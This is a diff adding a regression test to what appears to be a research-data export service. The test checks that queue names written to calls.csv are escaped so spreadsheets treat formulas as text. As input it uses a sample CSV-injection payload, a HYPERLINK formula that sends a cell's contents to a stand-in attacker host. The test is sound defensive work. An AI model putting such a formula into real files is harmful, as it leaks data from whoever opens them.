@@ -38,3 +38,22 @@ def test_the_call_pseudonym_is_the_first_column_whatever_fields_were_chosen(
     assert list(rows[0]) == ["call", "queue", "language"]
     folders = {name.split("/")[1] for name in package.namelist() if name.startswith("calls/")}
     assert sorted(row["call"] for row in rows) == sorted(folders) and len(folders) == 2
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
+    session: Session,
+    runtime: Runtime,
+    approved_batch: Callable[..., ResearchBatch],
+    built_package: Callable[[ResearchBatch], zipfile.ZipFile],
+) -> None:
+    """Found by a security pass: a queue name is whatever the telephony system sent, and calls.csv wrote it as it
+    came, so that the institute's spreadsheet ran `=HYPERLINK(…)` (every other CSV the service writes was safe)."""
+    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"open")'
+    research_call(session, runtime.store, runtime.envelope, queue=formula)
+    batch = approved_batch()
+
+    research_jobs.build_batches(runtime)
+
+    session.refresh(batch)
+    rows = list(csv.DictReader(io.StringIO(built_package(batch).read("calls.csv").decode())))
+    assert [row["queue"] for row in rows] == ["'" + formula]
